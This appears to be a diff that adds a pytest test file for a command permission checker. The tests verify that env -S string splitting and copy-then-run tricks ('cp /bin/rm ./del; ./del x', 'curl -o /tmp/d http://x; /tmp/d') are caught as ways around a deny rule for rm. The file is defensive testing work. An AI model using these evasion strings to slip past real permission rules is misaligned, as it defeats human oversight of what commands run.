@@ -1,0 +1,112 @@
+"""``env -S``'s own string splitting, against the real GNU env (PERM-17: ``env -S 'rm\\_x'`` runs ``rm x``)."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+
+from reference_impl.permissions._shell import deny_forms, env_split
+
+ENV = shutil.which("env")
+pytestmark = pytest.mark.skipif(ENV is None, reason="no env program on PATH")
+
+# The characters env -S treats specially, and plain ones between them.
+PIECES = st.sampled_from(
+    ["a", "rm", "x", " ", "\t", "'", '"', "\\", "_", "c", "#", "n", "t", "$", "-", "=", "\\_"]
+)
+
+
+@pytest.fixture(scope="module")
+def argv_printer(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    script = tmp_path_factory.mktemp("env-split") / "argv.py"
+    script.write_text("import json, sys\nprint(json.dumps(sys.argv[1:]))\n", encoding="utf-8")
+    return script
+
+
+def real_split(printer: Path, text: str) -> list[str] | None:
+    """The words the real env makes of ``text``, or None when it refuses the string."""
+    done = subprocess.run(
+        [str(ENV), "-S", f"{sys.executable} {printer} {text}"], capture_output=True, text=True, check=False
+    )
+    if done.returncode != 0:
+        return None
+    words: list[str] = json.loads(done.stdout)
+    return words
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(text=st.lists(PIECES, max_size=10).map("".join))
+@example(text="rm\\_x")
+@example(text="'a b'\\_\"c\\_d\"")
+@example(text="a #b")
+@example(text="a\\cb c")
+@example(text="'it\\'s'")
+def test_env_split_is_the_real_envs(argv_printer: Path, text: str) -> None:
+    """Where the real env runs the string, env_split makes the same words of it."""
+    if "${" in text:
+        return  # the environment's values: env_split says None, the real env expands them
+    real = real_split(argv_printer, text)
+    ours = env_split(text)
+    if real is not None:
+        assert ours is not None, f"env runs {text!r} as {real}, env_split could not tell"
+        assert list(ours) == real, (text, real, ours)
+
+
+def test_run_time_and_refused_strings_are_unknown() -> None:
+    assert env_split("${CMD} x") is None
+    assert env_split("a\\qb") is None
+    assert env_split("'unterminated") is None
+    assert env_split("rm\\_x") == ("rm", "x")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "env --split-string='rm x'",
+        "env --split='rm x'",
+        "env --s='rm x'",
+        "env --spl 'rm x'",
+        "env -iS 'rm x'",
+        "env -vS'rm x'",
+        "env -S 'rm\\_x'",
+        "env -S '-i rm x'",
+        "env -S '-S rm\\_x'",
+        "env -u X -S 'FOO=1 rm x'",
+    ],
+)
+def test_every_spelling_of_env_s_is_seen(command: str) -> None:
+    """PERM-17: what env splits out of its -S string is judged: a deny rule for rm matches it."""
+    forms = deny_forms(command)
+    assert forms.opaque or any(form == "rm x" or form.startswith("rm x") for form in forms.forms), forms
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cp /bin/rm ./del; ./del x",
+        "ln -s /bin/rm del; ./del x",
+        "install /bin/rm del; ./del x",
+        "cp /usr/bin/rm /tmp/d && /tmp/d x",
+        "sudo cp /bin/rm /tmp/d; /tmp/d x",
+        "curl -o /tmp/d http://x; /tmp/d",
+        "dd if=/bin/rm of=/tmp/d; /tmp/d x",
+        "cp --target-directory=/tmp/t /bin/rm; mv /tmp/t/rm /tmp/t/d; /tmp/t/d x",
+    ],
+)
+def test_a_program_the_line_makes_and_runs_is_unknown(command: str) -> None:
+    """PERM-17: a file the same line copies, links, installs or downloads and then runs is opaque."""
+    assert deny_forms(command).opaque, command
+
+
+@pytest.mark.parametrize(
+    "command", ["env FOO=1 ls", "env -i ls", "env --chdir=/ ls", "cp a b; ls", "cp a ./b; ./c", "env ls"]
+)
+def test_ordinary_env_and_copies_stay_ordinary(command: str) -> None:
+    assert not deny_forms(command).opaque, command
